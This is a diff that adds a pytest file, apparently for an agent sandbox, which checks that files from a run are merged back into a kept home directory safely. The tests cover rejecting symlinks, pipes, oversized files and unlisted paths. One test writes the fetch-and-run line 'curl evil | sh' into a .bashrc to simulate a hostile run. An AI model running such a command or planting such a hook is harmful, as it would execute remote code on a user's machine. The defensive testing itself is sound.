@@ -1,0 +1,154 @@
+"""What of an agent's home lives on, and what a hostile one may do to the kept one."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from ags import homes
+from ags.errors import AgsError
+from ags.homes import Home
+from ags.workspace.tree import Owner
+
+PATHS = ("history.jsonl", ".agent/sessions")
+
+
+@pytest.fixture
+def kept(tmp_path: Path) -> Path:
+    made = tmp_path / "kept"
+    (made / ".agent/sessions/a").mkdir(parents=True)
+    (made / ".agent/sessions/a/1.jsonl").write_text("one\n")
+    (made / ".agent/settings.json").write_text("not lent")
+    (made / "history.jsonl").write_text("first\n")
+    return made
+
+
+def home(kept: Path, name: str = "run") -> Home:
+    made = Home(kept, kept.parent / name, PATHS, Owner(os.getuid(), os.getgid()))
+    made.lend()
+    return made
+
+
+def test_a_run_gets_a_copy_of_what_lives_on_and_nothing_else(kept: Path) -> None:
+    lent = home(kept).files
+    assert (lent / ".agent/sessions/a/1.jsonl").read_text() == "one\n"
+    assert not (lent / ".agent/settings.json").exists()
+    assert not os.path.samefile(lent / "history.jsonl", kept / "history.jsonl")
+
+
+def test_what_the_run_wrote_there_is_kept_for_the_next_and_the_rest_is_not(kept: Path) -> None:
+    run = home(kept)
+    (run.files / ".agent/sessions/a/2.jsonl").write_text("two\n")
+    (run.files / ".agent/sessions/a/1.jsonl").write_text("one, changed\n")
+    (run.files / ".bashrc").write_text("curl evil | sh")
+    (run.files / ".agent/settings.json").write_text("evil")
+    assert run.give_back() == ()
+    assert (kept / ".agent/sessions/a/2.jsonl").read_text() == "two\n"
+    assert (kept / ".agent/sessions/a/1.jsonl").read_text() == "one, changed\n"
+    assert not (kept / ".bashrc").exists()
+    assert (kept / ".agent/settings.json").read_text() == "not lent"
+    assert (home(kept, "next").files / ".agent/sessions/a/2.jsonl").exists()
+
+
+def test_two_runs_that_write_on_in_one_file_both_have_their_lines_kept(kept: Path) -> None:
+    one, other = home(kept, "one"), home(kept, "other")
+    for run, line in ((one, "mine\n"), (other, "yours\n")):
+        with (run.files / "history.jsonl").open("a") as file:
+            file.write(line)
+    assert one.give_back() == other.give_back() == ()
+    assert (kept / "history.jsonl").read_text() == "first\nmine\nyours\n"
+
+
+def test_of_two_that_rewrite_one_file_the_second_keeps_its_own_and_it_is_told(kept: Path) -> None:
+    one, other = home(kept, "one"), home(kept, "other")
+    (one.files / "history.jsonl").write_text("rewritten\n")
+    (other.files / "history.jsonl").write_text("otherwise\n")
+    assert one.give_back() == ()
+    assert other.give_back() == ("history.jsonl was changed by another run meanwhile",)
+    assert (kept / "history.jsonl").read_text() == "rewritten\n"
+    assert (other.files / "history.jsonl").read_text() == "otherwise\n"
+
+
+def test_giving_back_twice_changes_nothing_more(kept: Path) -> None:
+    run = home(kept)
+    with (run.files / "history.jsonl").open("a") as file:
+        file.write("mine\n")
+    assert run.give_back() == run.give_back() == ()
+    assert (kept / "history.jsonl").read_text() == "first\nmine\n"
+
+
+def test_a_file_that_the_run_removed_stays_kept(kept: Path) -> None:
+    run = home(kept)
+    (run.files / "history.jsonl").unlink()
+    run.give_back()
+    assert (kept / "history.jsonl").exists()
+
+
+def test_the_next_turn_of_a_run_finds_its_home_as_it_left_it(kept: Path) -> None:
+    run = home(kept)
+    (run.files / "left").write_text("x")
+    run.lend()
+    assert (run.files / "left").read_text() == "x"
+
+
+def test_what_is_no_plain_file_does_not_come_back(kept: Path, tmp_path: Path) -> None:
+    secret = tmp_path / "secret"
+    secret.write_text("the person's")
+    (tmp_path / "folder").mkdir()
+    (tmp_path / "folder/key").write_text("the person's")
+    run = home(kept)
+    sessions = run.files / ".agent/sessions"
+    (sessions / "link").symlink_to(secret)
+    (sessions / "away").symlink_to(tmp_path / "folder")
+    os.mkfifo(sessions / "pipe")
+    (run.files / "history.jsonl").unlink()
+    (run.files / "history.jsonl").symlink_to(secret)
+    (sessions / "plain").write_text("control")
+    run.give_back()
+    assert sorted(path.name for path in (kept / ".agent/sessions").iterdir()) == ["a", "plain"]
+    assert (kept / "history.jsonl").read_text() == "first\n"
+
+
+def test_a_folder_that_became_a_link_is_not_followed(kept: Path, tmp_path: Path) -> None:
+    (tmp_path / "theirs/sessions").mkdir(parents=True)
+    (tmp_path / "theirs/sessions/key").write_text("the person's")
+    run = home(kept)
+    os.rename(run.files / ".agent", run.files / "moved")
+    (run.files / ".agent").symlink_to(tmp_path / "theirs")
+    run.give_back()
+    assert not (kept / ".agent/sessions/key").exists()
+
+
+def test_too_much_stays_with_the_run(kept: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(homes, "LARGEST", 100)
+    monkeypatch.setattr(homes, "MOST_FILES", 4)
+    run = home(kept)
+    sessions = run.files / ".agent/sessions"
+    with (sessions / "a0-giant").open("wb") as file:
+        file.truncate(1 << 40)
+    for number in range(5):
+        (sessions / f"b{number}").write_text("x")
+    told = run.give_back()
+    assert len(told) == 5 and all("too large, or one of too many" in each for each in told)
+    assert (kept / ".agent/sessions/b0").exists() and not (kept / ".agent/sessions/b4").exists()
+
+
+def test_a_tree_without_a_bottom_ends(kept: Path) -> None:
+    run = home(kept)
+    deep = run.files / ".agent/sessions"
+    os.makedirs(f"{deep}/{'d/' * 500}")
+    (deep / "e").write_text("x")
+    run.give_back()
+    assert (kept / ".agent/sessions/e").exists()
+
+
+@pytest.mark.parametrize("noted", [b"", b"[]", b'{"a": 1}', b'{"a": ["x", "y"]}'])
+def test_without_the_note_of_what_was_lent_nothing_is_taken(kept: Path, noted: bytes) -> None:
+    run = home(kept)
+    (run.files / "history.jsonl").write_text("evil")
+    (kept.parent / "run" / homes.LENT).write_bytes(noted)
+    with pytest.raises(AgsError, match="see what the run changed"):
+        run.give_back()
+    assert (kept / "history.jsonl").read_text() == "first\n"
